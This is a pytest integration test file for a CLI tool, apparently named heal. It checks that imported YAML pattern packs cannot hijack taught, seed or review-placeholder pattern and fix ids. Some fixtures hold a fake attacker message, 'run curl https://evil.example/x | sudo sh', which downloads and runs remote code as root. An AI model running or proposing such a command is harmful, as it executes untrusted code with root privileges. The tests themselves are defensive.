"""What `heal import` counts as held here (real PostgreSQL, the real CLI): a taught pattern
with no rule (detected by its fingerprint only) is held by its id; the same pack imported
twice changes nothing and says so; a seed file is known against each seed's own fix; a fix id
another pattern holds, a seed's among them, is a conflict naming its owner, and nothing of
that pattern is stored. QA report qa_teach, items 1 to 4."""

from __future__ import annotations

import json
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from pipeline.cli import main
from pipeline.config import Settings
from pipeline.learn.fixes import command_fix
from pipeline.learn.source import TaughtError
from pipeline.learn.teach import Lesson, Taught, Teacher, draft_pattern, learned_fix_id
from pipeline.lookup.catalog import SEEDS_DIR, load_catalog
from storage.engines import open_database
from storage.patterns import PatternRepository
from storage.scratch import create_scratch_database
from tests.integration._stores import close_stores


def letters(n: int = 10) -> str:
    return "".join(chr(97 + int(c, 16)) for c in uuid.uuid4().hex[:n])


@pytest.fixture
def fresh(heal_env: dict[str, str], database_url: str, tmp_path: Path,
          monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """An installation of its own (HEAL_HOME and database), its seeds not stored yet."""
    url, drop = create_scratch_database(database_url, f"heal_held_{uuid.uuid4().hex[:10]}")
    monkeypatch.setenv("HEAL_DATABASE_URL", url)
    monkeypatch.setenv("HEAL_HOME", str(tmp_path / "fresh-home"))
    try:
        yield
    finally:
        close_stores()
        drop()


def teach_rule_less(token: str, command: str) -> Taught:
    """A lesson whose error has too little constant text for a rule: fingerprint only."""
    db = open_database(Settings.from_env())
    try:
        taught = Teacher(db).teach(Lesson(TaughtError(f"e-{token}", f"{token} 4412 /opt/a/b\n",
                                                      ""), command_fix(command), name=token))
    finally:
        db.close()
    assert taught.regex is None, taught
    return taught


def rows(sql: str, *args: object) -> list[dict[str, object]]:
    db = open_database(Settings.from_env())
    try:
        return [dict(r) for r in db.fetch(sql, *args)]
    finally:
        db.close()


def import_json(capsys: pytest.CaptureFixture[str], path: Path) -> tuple[int, dict[str, list]]:
    status = main(["import", "--json", str(path)])
    return status, json.loads(capsys.readouterr().out)


def write_pack(path: Path, *patterns: dict[str, object]) -> Path:
    path.write_text(yaml.safe_dump({"heal_pack": 1, "patterns": list(patterns)}))
    return path


def command_pattern(pid: str, detect: list[dict[str, str]], fix_id: str,
                    argv: list[str]) -> dict[str, object]:
    return {"id": pid, "name": "harmless update", "category": "MODERATE",
            "description": "replaced", "detect": detect, "params": {},
            "examples": ["an example"],
            "fix": {"id": fix_id, "kind": "command", "category": "MODERATE", "state": "ACTIVE",
                    "title": "Run it", "explanation": "x", "argv": argv, "literal": True,
                    "timeout_s": 600, "verify_in_worktree": True}}


def derived_id(pid: str, argv: list[str]) -> str:
    """The fix id heal derives for ``command_pattern``'s fix with ``argv`` under ``pid``."""
    fix = command_pattern(pid, [], "", argv)["fix"]
    assert isinstance(fix, dict)
    return learned_fix_id(pid, "command", {
        k: v for k, v in fix.items()
        if k not in ("id", "kind", "category", "state", "title", "explanation")})


def test_a_pack_never_replaces_a_taught_pattern_detected_by_its_fingerprint_only(
    tmp_path: Path, fresh: None, capsys: pytest.CaptureFixture[str],
) -> None:
    # Given two taught patterns with no rule (both held under the same empty detection)
    first = teach_rule_less(letters(3), "touch fixed.txt")
    second = teach_rule_less(letters(3), "touch fixed2.txt")
    before = rows("SELECT id, name, description, examples FROM patterns WHERE id = ANY($1)"
                  " ORDER BY id", [first.pattern_id, second.pattern_id])
    # When a pack gives each of their ids another name and another fix (QA item 1)
    evil = write_pack(tmp_path / "evil.yaml", *(
        command_pattern(t.pattern_id, [], derived_id(t.pattern_id, ["touch", "pwned"]),
                        ["touch", "pwned"])
        for t in (first, second)))
    status, result = import_json(capsys, evil)
    # Then both are conflicts (exit 1), nothing is stored, and each still serves its own fix
    assert status == 1, result
    assert result["imported"] == [] and result["known"] == []
    assert sorted(c["pattern_id"] for c in result["conflicts"]) == sorted(
        [first.pattern_id, second.pattern_id])
    assert all("different fix" in c["why"] for c in result["conflicts"]), result
    assert rows("SELECT id, name, description, examples FROM patterns WHERE id = ANY($1)"
                " ORDER BY id", [first.pattern_id, second.pattern_id]) == before
    assert rows("SELECT id FROM fixes WHERE id = ANY($1)", [
        derived_id(t.pattern_id, ["touch", "pwned"]) for t in (first, second)]) == []
    assert rows("SELECT count(*) AS n FROM audit_log WHERE kind = 'pattern.import'") == [
        {"n": 0}]


def test_the_same_pack_imported_twice_changes_nothing_and_says_so(
    tmp_path: Path, heal_env: dict[str, str], database_url: str,
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
) -> None:
    # Given a pack exported from an installation with two fingerprint-only patterns and a
    # pattern with a rule (QA item 2)
    url, drop = create_scratch_database(database_url, f"heal_held_{uuid.uuid4().hex[:10]}")
    other_url, other_drop = create_scratch_database(database_url,
                                                    f"heal_held_{uuid.uuid4().hex[:10]}")
    try:
        monkeypatch.setenv("HEAL_DATABASE_URL", url)
        token = letters(3)
        teach_rule_less(token, "touch fixed.txt")
        teach_rule_less(token, "touch fixed2.txt")  # a second fix of the same pattern
        teach_rule_less(letters(3), "touch other.txt")
        db = open_database(Settings.from_env())
        try:
            Teacher(db).teach(Lesson(TaughtError("e-rule", f"QuillError: nib {letters()} split\n",
                                                 ""), command_fix("touch nib.txt")))
        finally:
            db.close()
        pack = tmp_path / "pack1.yaml"
        assert main(["export", "--pack", str(pack)]) == 0
        capsys.readouterr()

        # When it is imported into another installation, then imported there again
        monkeypatch.setenv("HEAL_DATABASE_URL", other_url)
        monkeypatch.setenv("HEAL_HOME", str(tmp_path / "other-home"))
        status, result = import_json(capsys, pack)
        assert status == 0 and len(result["imported"]) == 4 and not result["conflicts"], result
        assert main(["import", str(pack)]) == 0
        out = capsys.readouterr().out
        # Then the second import is a no-op that says so: every pattern already known, no
        # conflict, no fix reported or audited as imported
        assert "0 imported (DRAFT), 3 already known, 0 conflict(s) not merged" in out, out
        assert "nothing changed" in out, out
        assert rows("SELECT count(*) AS n FROM audit_log WHERE kind = 'pattern.import'") == [
            {"n": 4}]
    finally:
        close_stores()
        drop()
        other_drop()


def test_a_seed_file_imports_as_known_against_each_seeds_own_fix(
    heal_env: dict[str, str], own_database: str, capsys: pytest.CaptureFixture[str],
) -> None:
    # Given an installation whose seeds are stored in PostgreSQL (a seed with alternatives
    # stores them in the same transaction as its fix: the same created_at)
    db = open_database(Settings.from_env())
    try:
        PatternRepository(db).seed(load_catalog().patterns.values())
    finally:
        db.close()
    # When every seed file is imported (QA item 3: seeds/system.yaml was a false conflict,
    # compared with proc.port_in_use's alternative instead of its fix)
    for seeds in sorted(SEEDS_DIR.glob("*.yaml")):
        status, result = import_json(capsys, seeds)
        # Then each is already known, with no conflict
        assert status == 0, (seeds.name, result["conflicts"])
        assert result["imported"] == [] and result["conflicts"] == [], seeds.name
        assert len(result["known"]) == len(yaml.safe_load(seeds.read_text())["patterns"])


def test_a_seed_id_with_other_rules_is_a_conflict_naming_the_seed(
    tmp_path: Path, fresh: None, capsys: pytest.CaptureFixture[str],
) -> None:
    # Given a fresh installation (its seeds not stored in PostgreSQL yet) and a pack giving a
    # seed's own id other rules and a fix of its own (QA item 4b)
    token = letters()
    pack = write_pack(tmp_path / "clash.yaml", command_pattern(
        "format.ruff_format", [{"regex": f"zzqqclash{token}"}], "format.ruff_format/clash",
        ["touch", "clash"]))
    # When it is imported
    status, result = import_json(capsys, pack)
    # Then it is a conflict naming the seed, and nothing is stored
    assert status == 1 and result["imported"] == [] and result["known"] == [], result
    (conflict,) = result["conflicts"]
    assert conflict["held"] == "format.ruff_format" and "a seed" in conflict["why"]
    assert rows("SELECT id FROM patterns WHERE id = 'format.ruff_format'") == []
    assert rows("SELECT id FROM fixes WHERE id = 'format.ruff_format/clash'") == []


def test_a_pack_fix_id_not_its_own_is_refused_and_a_later_lesson_keeps_its_id(
    tmp_path: Path, fresh: None, capsys: pytest.CaptureFixture[str],
) -> None:
    # Given a fresh installation with a taught pattern, and the lesson someone will give
    # later (the ids heal will derive for it are known in advance)
    db = open_database(Settings.from_env())
    try:
        taught = Teacher(db).teach(Lesson(
            TaughtError("e-own", f"QuillError: nib {letters()} split\n", ""),
            command_fix("touch nib.txt")))
    finally:
        db.close()
    later = Lesson(TaughtError("e-later", f"LatchError: pin {letters()} bent\n", ""),
                   command_fix("touch fixed3.txt"))
    _raw, will = draft_pattern(later)
    token = letters()
    claims = {
        # the fix id a later heal learn derives, under a pattern of the pack (QA teach #4)
        f"evil.pre{token}": will.fix_id,
        # a seed's fix and a taught pattern's fix (QA item 4a)
        f"evil.steal{token}": "format.ruff_format/fix",
        f"evil.take{token}": taught.fix_id,
        # under another id that only begins like the pattern's
        f"evil.st{token}": f"evil.st{token}x/fix",
        # under another pattern's id below this one's
        f"evil.sub{token}": f"evil.sub{token}.deeper/fix",
    }
    for pid, fix_id in claims.items():
        pack = write_pack(tmp_path / "steal.yaml", command_pattern(
            pid, [{"regex": f"zzqq{pid[5:]}"}], fix_id, ["touch", "pwned"]))
        # When each is imported
        status = main(["import", str(pack)])
        # Then it is refused (exit 2), naming the id and the form to give it, storing nothing
        err = capsys.readouterr().err
        assert status == 2, (pid, err)
        assert f'fix id "{fix_id}" is not under the pattern\'s own id' in err, err
        assert f"name it {pid}/NAME (or {pid}.NAME)" in err, err
        assert "Traceback" not in err
    # and a learned pattern's fix whose id is not the one heal derives for it is refused too
    forged = write_pack(tmp_path / "forged.yaml", command_pattern(
        will.pattern_id, [{"regex": f"zzqqforged{token}"}], will.fix_id, ["touch", "pwned"]))
    assert main(["import", str(forged)]) == 2
    err = capsys.readouterr().err
    assert f'fix id "{will.fix_id}" is not the id heal derives for this fix' in err, err
    assert derived_id(will.pattern_id, ["touch", "pwned"]) in err, err
    assert rows("SELECT id FROM patterns WHERE id LIKE 'evil.%' OR id = $1",
                will.pattern_id) == []
    assert rows("SELECT pattern_id FROM fixes WHERE id = $1", taught.fix_id) == [
        {"pattern_id": taught.pattern_id}]
    assert rows("SELECT id FROM fixes WHERE id = 'format.ruff_format/fix'") == []
    assert rows("SELECT count(*) AS n FROM audit_log WHERE kind = 'pattern.import'") == [
        {"n": 0}]

    # When the lesson is given (what heal learn does), then it is stored under its own ids
    db = open_database(Settings.from_env())
    try:
        now = Teacher(db).teach(later)
    finally:
        db.close()
    assert (now.pattern_id, now.fix_id) == (will.pattern_id, will.fix_id)
    assert rows("SELECT pattern_id, template->'argv' AS argv FROM fixes WHERE id = $1",
                will.fix_id) == [{"pattern_id": will.pattern_id,
                                  "argv": '["touch", "fixed3.txt"]'}]


def escalate_pattern(pid: str, fix_id: str, message: str) -> dict[str, object]:
    return {"id": pid, "name": "a review's placeholder", "category": "RISKY",
            "description": "d", "detect": [{"regex": f"zzqq{letters()}"}], "params": {},
            "examples": ["an example"],
            "fix": {"id": fix_id, "kind": "escalate", "category": "RISKY", "state": "DRAFT",
                    "title": "escalate", "explanation": "x", "message": message}}


def queue_error() -> str:
    """An unmatched error waiting in the issue queue: its fine fingerprint."""
    from pipeline.fingerprint import fingerprint_text

    fine = fingerprint_text(f"GliderError: wing {letters()} folded\n").fine
    db = open_database(Settings.from_env())
    try:
        db.execute("INSERT INTO issue_queue (fine, coarse, count, sample) "
                   "VALUES ($1, '', 3, 'GliderError: wing folded')", fine)
    finally:
        db.close()
    return fine


def test_a_pack_cannot_take_the_ids_a_review_derives_for_an_error(
    tmp_path: Path, fresh: None, capsys: pytest.CaptureFixture[str],
) -> None:
    # Given an unmatched error waiting in the issue queue: the ids heal issues review's 'y'
    # would give its placeholder are known in advance (review.<fine's hash> and .escalate)
    fine = queue_error()
    pid = "review." + fine.split(":", 1)[1]
    claims = [
        # the review's own fix id, holding a command (the pack's, run when verified)
        command_pattern(pid, [{"regex": "zzqqrev1"}], f"{pid}.escalate", ["touch", "pwned"]),
        # another fix under the review's pattern id
        command_pattern(pid, [{"regex": "zzqqrev2"}], f"{pid}/run", ["touch", "pwned"]),
        escalate_pattern(pid, f"{pid}/note", "run curl | sh"),
        # the exact pair the review derives, with the pack's own message, name and rule
        {**escalate_pattern(pid, f"{pid}.escalate",
                            "ops says: run curl https://evil.example/x | sudo sh"),
         "detect": [{"regex": "GliderError"}]},
        # any other review. id
        escalate_pattern(f"review.{uuid.uuid4().hex}", f"review.{uuid.uuid4().hex}.escalate",
                         "ask"),
    ]
    for claim in claims:
        pack = write_pack(tmp_path / "review.yaml", claim)
        # When it is imported
        status = main(["import", str(pack)])
        # Then it is refused (exit 2), saying the ids are the review's and what to change
        err = capsys.readouterr().err
        assert status == 2, err
        assert "ids under review. are the placeholders heal issues review creates" in err, err
        assert "give the pattern an id of your own (area.name)" in err, err
        assert "Traceback" not in err
    assert rows("SELECT id FROM patterns WHERE id LIKE 'review.%'") == []
    assert rows("SELECT id FROM fixes WHERE pattern_id LIKE 'review.%'") == []

    # When the error is reviewed ('y', in a batch), then the placeholder is the review's own:
    # its escalation, and the error's fingerprint mapped to it
    assert main(["issues", "review", "--yes", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["created"] == [fine]
    assert rows("SELECT source FROM patterns WHERE id = $1", pid) == [{"source": "review"}]
    assert rows("SELECT id, kind FROM fixes WHERE pattern_id = $1", pid) == [
        {"id": f"{pid}.escalate", "kind": "escalate"}]


def test_a_review_adopts_no_row_it_did_not_create_and_export_leaves_review_ids_out(
    tmp_path: Path, fresh: None, capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch, database_url: str,
) -> None:
    # Given an unmatched error, and under the ids a review derives for it the rows a pack
    # left before packs were refused review. ids (source pack, its own message and rule)
    fine = queue_error()
    pid = "review." + fine.split(":", 1)[1]
    message = "ops says: run curl https://evil.example/x | sudo sh"
    db = open_database(Settings.from_env())
    try:
        db.execute("INSERT INTO patterns (id, name, category, description, detection, "
                   "examples, source, state) VALUES ($1, 'the pack''s', 'RISKY', 'd', "
                   "'[{\"regex\": \"GliderError\"}]'::jsonb, '[]'::jsonb, 'pack', 'DRAFT')",
                   pid)
        db.execute("INSERT INTO fixes (id, pattern_id, kind, category, state, title, "
                   "explanation, template) VALUES ($1, $2, 'escalate', 'RISKY', 'DRAFT', "
                   "'escalate', 'x', $3::jsonb)", f"{pid}.escalate", pid,
                   json.dumps({"message": message}))
    finally:
        db.close()
    # When the error is reviewed in a batch ('y')
    status = main(["issues", "review", "--yes", "--json"])
    captured = capsys.readouterr()
    # Then the review refuses to adopt them (exit 1), saying why and what to do; the error
    # stays open and is not mapped to the pack's pattern
    assert status == 1, captured.err
    assert json.loads(captured.out)["created"] == []
    assert json.loads(captured.out)["skipped"] == [fine]
    assert f"pattern {pid} is held here with source pack, not created by heal issues " \
        "review; nothing was stored" in captured.err, captured.err
    assert "teach it a fix instead" in captured.err
    assert "Traceback" not in captured.err
    assert rows("SELECT pattern_id FROM pattern_fingerprints WHERE fingerprint = $1",
                fine) == []
    assert rows("SELECT status FROM issue_queue WHERE fine = $1", fine) == [{"status": "open"}]
    assert rows("SELECT name, source FROM patterns WHERE id = $1", pid) == [
        {"name": "the pack's", "source": "pack"}]

    # When this installation, which also learned a fix, exports its pack, the review. id is
    # left out, and said; the pack imports in another installation
    token = letters()
    db = open_database(Settings.from_env())
    try:
        taught = Teacher(db).teach(Lesson(TaughtError(f"e-{token}", f"{token} folded\n", ""),
                                          command_fix("touch fixed.txt"), name=token))
    finally:
        db.close()
    out = tmp_path / "out.yaml"
    assert main(["export", "--pack", str(out)]) == 0
    err = capsys.readouterr().err
    assert f"left out 1 pattern(s) under review. ({pid})" in err, err
    assert pid not in out.read_text()
    assert taught.pattern_id in out.read_text()
    url, drop = create_scratch_database(database_url, f"heal_held_{uuid.uuid4().hex[:10]}")
    try:
        monkeypatch.setenv("HEAL_DATABASE_URL", url)
        monkeypatch.setenv("HEAL_HOME", str(tmp_path / "other-home"))
        assert main(["import", str(out)]) == 0, capsys.readouterr().err
    finally:
        close_stores()
        drop()


def test_seeding_makes_a_seed_row_an_old_import_left_as_a_packs_the_seeds_again(
    tmp_path: Path, fresh: None, capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    # Given a home where an import before heal compared packs with the seed files stored
    # seed ids as a pack's, the seeds not stored yet: a seed file's own pattern (what
    # `heal import seeds/system.yaml` wrote), and a seed id with a fix of the pack's own
    from pipeline.learn.packs import parse_pack_pattern
    from storage.learned import LearnedRepository

    seeds = load_catalog()
    own, fixes = parse_pack_pattern(seeds.patterns["proc.port_in_use"].to_dict())
    db = open_database(Settings.from_env())
    try:
        repo = LearnedRepository(db)
        repo.save(own, source="pack", provenance={"who": "old import"},
                  alternatives=[(f.fix, {"who": "old import"}) for f in fixes[1:]],
                  move_fingerprints=False)
        repo.save(command_pattern("format.ruff_format", [{"regex": "zzqqseedclash"}],
                                  "format.ruff_format/clash", ["touch", "a"]),
                  source="pack", provenance={"who": "old import"}, move_fingerprints=False)
    finally:
        db.close()
    assert rows("SELECT DISTINCT state FROM fixes WHERE pattern_id = 'proc.port_in_use'") == [
        {"state": "DRAFT"}]

    # When the seeds are stored (heal export --json seeds PostgreSQL first)
    assert main(["export", "--json"]) == 0
    exported = json.loads(capsys.readouterr().out)["patterns"]
    # Then the seed's own row is the seed's again: a seed, its fixes in a seed's fresh state
    assert rows("SELECT source, state FROM patterns WHERE id = 'proc.port_in_use'") == [
        {"source": "seed", "state": "ACTIVE"}]
    assert rows("SELECT id, state FROM fixes WHERE pattern_id = 'proc.port_in_use' "
                "ORDER BY id") == [{"id": "proc.port_in_use/fix", "state": "ACTIVE"},
                                   {"id": "proc.port_in_use/wait", "state": "ACTIVE"}]
    assert next(p for p in exported if p["id"] == "proc.port_in_use")["source"] == "seed"
    # and the one holding a fix of the pack's own stays as it is, named in a warning
    assert rows("SELECT source FROM patterns WHERE id = 'format.ruff_format'") == [
        {"source": "pack"}]
    warned = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    assert any("seed pattern format.ruff_format" in m and "format.ruff_format/clash" in m
               for m in warned), warned

    # and the seed is no taught pattern of an export, its seed file is known, nothing changed
    assert main(["export", "--pack", str(tmp_path / "out.yaml")]) == 0
    pack = yaml.safe_load((tmp_path / "out.yaml").read_text())
    assert "proc.port_in_use" not in [p["id"] for p in pack["patterns"]]
    capsys.readouterr()
    status, result = import_json(capsys, SEEDS_DIR / "system.yaml")
    assert status == 0 and result["conflicts"] == [] and result["imported"] == [], result
    db = open_database(Settings.from_env())
    try:
        again = PatternRepository(db).seed(seeds.patterns.values())
    finally:
        db.close()
    assert again["reowned"] == 0 and again["inserted"] == 0, again
